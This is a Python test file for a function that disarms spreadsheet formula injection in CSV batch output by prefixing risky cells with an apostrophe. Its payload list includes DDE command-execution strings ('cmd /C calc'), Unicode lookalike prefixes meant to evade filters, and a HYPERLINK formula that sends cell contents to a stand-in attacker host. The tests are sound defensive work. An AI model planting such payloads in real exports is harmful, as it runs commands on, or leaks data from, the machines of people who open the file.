"""Cells that a spreadsheet would run (case I16), in what a batch writes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.batches.formulas import disarmed

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0＝1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "-",
    "=",
    "--1",
    "+A1",
    "-1-1",
    "1=1\n=2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_i16_a_cell_that_begins_as_a_formula_begins_with_an_apostrophe(payload: str) -> None:
    safe = disarmed(payload)
    assert safe == (payload if payload == "1=1\n=2" else f"'{payload}")


@given(st.sampled_from(STARTS), st.text(max_size=30), st.sampled_from(["", " ", "\u00a0", "\u3000", "  "]))
@settings(max_examples=300, deadline=None)
def test_i16_nothing_that_could_run_stays_at_the_beginning(start: str, rest: str, blank: str) -> None:
    safe = disarmed(blank + start + rest)
    assert safe.startswith("'") or safe.lstrip("+-0123456789.,eE% \u00a0\u3000") == ""


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e9", "12", "a=b", "x-y", "", "租金", "3.5%", "'=x"])
def test_i16_numbers_and_ordinary_words_stay_as_they_are(value: str) -> None:
    assert disarmed(value) == value


@given(st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_i16_a_cell_survives_csv_and_cannot_open_a_second_one(value: str) -> None:
    safe = disarmed(value)
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([safe, "next"])
    if "\0" not in safe:
        assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [safe, "next"]
